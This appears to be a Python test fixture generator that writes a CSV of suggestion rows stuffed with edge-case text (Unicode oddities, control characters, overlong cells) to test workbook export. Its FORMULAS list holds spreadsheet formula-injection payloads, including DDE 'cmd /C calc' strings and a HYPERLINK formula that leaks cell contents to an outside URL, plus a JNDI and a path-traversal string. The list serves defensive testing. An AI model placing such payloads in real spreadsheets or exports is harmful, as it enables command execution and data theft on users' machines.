#!/usr/bin/env python3
"""Writes a campaign whose rows hold every kind of text that workbooks lose, change or run.

usage: Tests/EndToEnd/adversarial.py FOLDER COUNT [--hard] [--seed N]

FOLDER/campaign.yaml and FOLDER/suggestions.csv with COUNT rows of eight columns, the same for the same seed. Without --hard
there is nothing that a reader of workbooks cannot read back or that cannot be printed: no text beyond a cell's room, no U+FFFE
and U+FFFF (calamine and openpyxl leave _xFFFE_ as it is), no text that is a day, and nothing without glyphs in channels, groups
and dispositions; with it everything stands everywhere. White space at the ends stands in texts alone: it is taken off all other
cells when rows are read.
"""
import argparse
import csv
import random
from pathlib import Path

COLUMNS = ["id", "received", "channel", "district", "text", "group", "disposition", "reply"]
HEADERS = {"id": "编号", "received": "收到日期", "channel": "渠道", "district": "所属区域", "text": "内容", "group": "分组",
           "disposition": "处理结果", "reply": "答复"}
# UTF-16 units that a cell of a workbook holds (Excel's limit).
CELL = 32_767

HAN = "建议改进服务窗口办理时限公开透明群众反映问题落实责任加强监督方便老人儿童出行停车绿化照明"
# CJK extensions A to H, one of each, and compatibility ideographs, which normalisation would change.
RARE = "㐀\U00020000\U0002A700\U0002B740\U0002B820\U0002CEB0\U00030000\U00031350豈\U0002F800"
EMOJI = ["😀", "👨\u200d👩\u200d👧\u200d👦", "🏳\ufe0f\u200d🌈", "👍🏽", "🇨🇳", "1\ufe0f\u20e3", "🧑\u200d🚀"]
COMBINING = ["e\u0301", "é", "q\u0323\u0307", "q\u0307\u0323", "ä̈̈", "ི" * 3, "각", "\u1112\u1161\u11ab", "Å", "Å"]
FORMULAS = [
    "=1+1", "+1+1", "-1-1", "@SUM(1,1)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("http://example.org/?leak="&A1&B1,"点这里")',
    '=DDE("cmd";"/C calc";"__DDE_link")', '=WEBSERVICE("http://example.org")', "=IMPORTXML(A1,\"//a\")",
    "\t=1+1", "\r=1+1", "\n=1+1", "'=1+1", "''=1+1", "'", "''", "'\t", "=", "+", "-", "@", "--", "=-", "＝1+1", "＋86", "－1", "＠a",
    "{=1+1}", "=SUM(" + "1+" * 4096 + "1)", "=\"" + "a" * 8192 + "\"", "=A1", "=#REF!", "#REF!", "#N/A", "=TRUE()", "TRUE", "=@A1",
]
NUMBERS = [
    "007", "1e5", "1E5", "1E-5", "0x1F", "1,234", "1.50", "-3", "-3.5", "+86", "+8613", "1/2", "3-4", "2024-05-01", "2024-05-01前", "2024/5/1",
    "5月1日", "12:30", "1:2:3", "1-Jan", "9" * 40, "0.1" + "0" * 40, "1" * 16, "-0", "00", "٣", "１２３", "½", "∞", "NaN", "INF", "50%", "¥5",
]
ESCAPES = [
    "_x0041\ufffe", "_x0041\x01", "_x0041\r\n", "_x005F\x1f_",
    "_x0041_", "_x005F_x0041_", "_x005f_", "_x005F_", "_x000D_", "_x000A_", "a_x0041_b", "_x0041", "x0041_", "_x00410_", "__x0041__",
    "_x0041_x0042_", "_X0041_", "_xD800_", "_xFFFF_", "_x0000_", "_xZZZZ_", "_x005F", "\\x41", "&#65;", "&#x41;", "%41", "\\u0041",
]
MARKUP = [
    "<b>粗</b>", "]]>", "<![CDATA[x]]>", "&amp;", "&lt;a&gt;", "&", "<", ">", "<!-- -->", "<?xml version=\"1.0\"?>", "</t></si></sst>",
    "<f>1+1</f>", "&nbsp;", "{{title}}", "**粗**", "|", "\\", "`", "$(id)", "%s%n", "${jndi:x}", "../../etc", "\"", "\"\"", "a\"b", "'a'",
    ",", ";", "a,b;c\td",
]
BREAKS = ["甲\r乙", "甲\n乙", "甲\r\n乙", "甲\r\r\n乙", "甲\n\r乙", "甲\n\n\n乙", "甲\t乙", "甲\u2028乙", "甲\u2029乙", "甲\x85乙", "甲\x0b乙", "甲\x0c乙", "甲\r"
          , "\r\n甲", "甲\n"]
EDGES = [" 甲", "甲 ", " 甲 ", "  甲乙  ", "\u00a0甲\u00a0", "\u3000甲\u3000", "\t甲\t", "甲  乙", "\u2003甲", "甲\u200b", "\u200b甲", "\n甲\n"]
BLANKS = [" ", "   ", "\u00a0", "\u3000", "\u3000\u3000", "\t", "\n", "\r\n", "\u2003"]
CONTROLS = (["甲" + chr(code) + "乙" for code in [*range(0x01, 0x20), *range(0x7f, 0xa0)]]
            + [chr(code) * 3 + "末" for code in (1, 8, 0x1b, 0x1f, 0x7f, 0x9f)] + ["首" + chr(code) for code in (1, 0x1f, 0x7f, 0x9f)])
NULS = ["甲\x00乙", "\x00首", "末\x00"]
NONCHARACTERS = ["甲" + chr(code) + "乙" for code in [0xfffe, 0xffff, 0xfdd0, 0xfdef, *(
    plane << 16 | low for plane in range(1, 17) for low in (0xfffe, 0xffff))]] + ["\ufffe", "\uffff", "￼￾\uffff末", "\uffef", "ﾟ", "！～￥"]
INVISIBLE = ["甲\ufeff乙", "甲\u00ad乙", "\u202e倒\u202c", "甲\u200f乙", "\u2066甲\u2069", "甲\ue000乙", "\U000f0000", "\U0010fffd", "甲\U000e0041乙", "\U000e0100葛"]
LANGUAGES = ["العربية ئۇيغۇرچە", "བོད་ཡིག", "ᠮᠣᠩᠭᠣᠯ", "한국어", "ꆈꌠ", "עִבְרִית", "ไทย", "नमस्ते", "𝔘𝔫𝔦", "ﬁ"]

KINDS = [FORMULAS, NUMBERS, ESCAPES, MARKUP, BREAKS, EDGES, CONTROLS, NONCHARACTERS, INVISIBLE, LANGUAGES, COMBINING, EMOJI, list(RARE)]
# What a reader cannot read back, or takes for something else.
HARD = set("2024-05-01 2024/5/1".split())


def is_hard(text):
    return text.strip() in HARD or "\ufffe" in text or "\uffff" in text or units(text) > CELL


def units(text):
    return len(text.encode("utf-16-le")) // 2


# What may stand in cells that lose white space at their ends, and in which `；` parts two groups.
WORDS = [word for kind in KINDS for word in kind if word == word.strip() and len(word) < 400 and "；" not in word and ";" not in word
         and "\n" not in word and "\r" not in word]


# Of these, what fonts have.
PRINTED = [word for word in WORDS if word in FORMULAS + NUMBERS + ESCAPES + MARKUP and all(" " <= c <= "~" or c in HAN for c in word)]


def long_texts():
    """At and beyond what a cell holds, in units of UTF-16; a character outside the first plane takes two."""
    for units in (CELL - 1, CELL, CELL + 1, 70_000):
        yield "长" * units
        yield "a" * units
        yield "😀" * (units // 2)
        yield "a" + "😀" * ((units - 1) // 2)
    # Where a cell is full there stand a pair of surrogates, CR LF, a letter with its accent, what looks like an escape.
    for piece in ("😀", "\r\n", "e\u0301", "_x0041_", "\x01", "\ufffe", "&", " ", "\U00020000"):
        for before in range(CELL - 24, CELL + 2):
            if piece in ("😀", "\r\n") or before % 6 == 0:
                yield "长" * before + piece + "末" * 40
    yield "=" + "1+" * 20_000 + "1"
    yield "\x01" * 40_000
    yield "_x0041_" * 6_000


def campaign(count):
    return (
        "huizong: 1\nstatus: draft\ntitle: 关于改进服务的意见征集情况\nissuer: 某市某局\ntopic: 如何改进服务\nkind: adoption\n"
        "window: {from: 2024-05-01, to: 2024-05-31}\ndate: 2024-06-18\n")


class Source:
    def __init__(self, count, seed, hard):
        self.random = random.Random(seed)
        self.count, self.hard = count, hard
        pick = self.random.sample
        words = WORDS if hard else PRINTED
        self.kinds = KINDS if hard else [[text for text in kind if not is_hard(text)] for kind in KINDS]
        self.channels = ["网上"] + pick(words, 24)
        self.districts = ["某街道"] + pick([word for word in WORDS if hard or not is_hard(word)], 30)
        self.groups = [f"{word}类{number}" for number, word in enumerate(self.random.choices(words, k=110))] + ["=1+1", "+甲", "-乙", "@丙", "'丁"]
        self.dispositions = ["采纳", "部分采纳", "未采纳"] + [f"{word}办" for word in pick(words, 12)]
        self.prefixes = ["", "0", "00", "=", "+", "-", "@", "'", "1e", "号", "😀", "\U00020000", "<", "&", "\"", "a,", "_x0041", "=cmd|' /C calc'!A", "e\u0301"]
        if hard:
            self.prefixes += ["_x0041_", "_x005F_", "\x01", "\ufffe", "a\x1f", "\u202e"]

    def text(self, number):
        dice = self.random
        kind = dice.choice(self.kinds)
        text = dice.choice(kind)
        roll = dice.random()
        if roll < 0.4:
            return text
        rest = "".join(dice.choices(HAN, k=dice.randint(1, 60)))
        if roll < 0.6:
            return text + rest
        if roll < 0.8:
            return rest + text
        return rest[:7] + text + dice.choice(dice.choice(self.kinds)) + rest[7:]

    def rows(self):
        dice = self.random
        long = [text for text in long_texts() if self.hard or not is_hard(text)]
        special = BLANKS + NULS + [""]
        for number in range(1, self.count + 1):
            if number <= len(long):
                text = long[number - 1]
            elif number <= len(long) + len(special):
                text = special[number - 1 - len(long)]
            else:
                text = self.text(number)
            reply = self.text(number).strip() if dice.random() < 0.3 else ""
            if number in (3, 17):
                reply = "答" * (CELL if not self.hard else CELL + number)
            groups = dice.sample(self.groups, dice.choice((0, 1, 1, 1, 2)))
            yield [
                dice.choice(self.prefixes) + str(number), f"2024-05-{dice.randint(1, 31):02}", dice.choice(self.channels),
                dice.choice(self.districts), text, "；".join(groups), dice.choice(self.dispositions + [""]), reply]


def write(folder, count, seed=1, hard=False):
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "campaign.yaml").write_text(campaign(count), "utf-8")
    with open(folder / "suggestions.csv", "w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file, quoting=csv.QUOTE_ALL, lineterminator="\r\n")
        writer.writerow(COLUMNS)
        writer.writerows(Source(count, seed, hard).rows())
    return folder


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("folder")
    parser.add_argument("count", type=int)
    parser.add_argument("--hard", action="store_true")
    parser.add_argument("--seed", type=int, default=1)
    arguments = parser.parse_args()
    write(arguments.folder, arguments.count, arguments.seed, arguments.hard)


if __name__ == "__main__":
    main()
